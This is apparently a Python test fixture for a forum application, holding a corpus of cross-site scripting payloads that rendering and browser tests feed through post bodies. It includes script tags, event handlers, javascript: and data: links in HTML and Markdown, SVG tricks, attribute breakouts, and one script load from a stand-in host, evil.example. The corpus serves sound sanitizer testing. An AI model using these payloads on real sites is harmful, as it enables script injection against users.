"""Hostile input: the XSS corpus that post bodies (tests/forum/discussions/test_rendering.py)
and every page showing what people write (tests/e2e/test_xss_browser.py) are tried with."""

from __future__ import annotations

# What a payload that ran would leave behind, for the browser test to look for.
XSS_MARK = "__xss"  # a global it would set
XSS_TITLE = "pwned"  # what it would make the document's title
XSS_BEACON = "/xss-beacon/"  # where it would send a request, or load a script from

# Event handlers are tried on every tag post bodies may keep, and on some they may not.
_HANDLER_TAGS = sorted(
    {"p", "br", "em", "strong", "a", "blockquote", "ul", "ol", "li", "code", "pre"}
    | {"img", "svg", "body", "div", "span", "input", "video"}
)

XSS_PAYLOADS = [
    # script and friends
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    # event handlers, on every kind of tag (allowed ones and not)
    *[f'<{tag} onclick="alert(1)" onmouseover=alert(1)>x</{tag}>' for tag in _HANDLER_TAGS],
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    # javascript:, data:, vbscript: in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    # javascript:, data:, vbscript: in Markdown links
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](\x01javascript:alert(1))",
    "[x](javascript://%0Aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    # images, which render as links to the image, and bare URLs, which linkify links
    '![<img src=x onerror=alert(1)>](https://example.com/x.png "t\\" onmouseover=\\"alert(1)")',
    "![](javascript:alert(1))",
    '![x](https://example.com/x.png" onerror="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    'www.example.com/"onmouseover="alert(1)" and https://example.com/<script>alert(1)</script>',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[[inner](javascript:alert(1))](https://example.com)",
    # autolinks
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # SVG and MathML tricks
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # style, iframe, object, embed and other loaders
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # unclosed tags
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)"',
    "<script>alert(1)",
    "<iframe src=javascript:alert(1)",
    # attribute breakouts through quotes in link titles and urls
    '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
    "[x](https://example.com 't\\' onmouseover=alert(1) x=\\'')",
    '[x](https://example.com/"onmouseover="alert(1))',
    "[x](https://example.com/'onmouseover='alert(1))",
    '[x](<https://example.com/" onclick="alert(1)>)',
    # Markdown wrapped around raw HTML, and mentions next to markup
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "**<script>alert(1)</script>**",
    "> <iframe src=javascript:alert(1)>",
    "- <svg onload=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "@alice<script>alert(1)</script>",
    '@alice" onmouseover="alert(1)',
    # htmx, which the site loads: attributes that fetch or run code once it sees them
    f'<div hx-get="{XSS_BEACON}" hx-trigger="load">x</div>',
    f'<div hx-on:htmx:load="window.{XSS_MARK}=1">x</div>',
    # breakouts from where names and titles land (attributes, <title>, <textarea>), and
    # payloads that would leave a trace rather than open a dialog
    f'"><script>window.{XSS_MARK}=1</script>',
    f"'><img src=x onerror=window.{XSS_MARK}=1>",
    f'" autofocus onfocus="window.{XSS_MARK}=1" x="',
    f"</title><script>document.title='{XSS_TITLE}'</script>",
    f"</textarea><svg onload=window.{XSS_MARK}=1>",
    f"<img src=x onerror=\"fetch('{XSS_BEACON}')\">",
    f"<script src={XSS_BEACON}></script>",
    f'<iframe srcdoc="<script>parent.{XSS_MARK}=1</script>">',
    f"javascript:window.{XSS_MARK}=1",
]
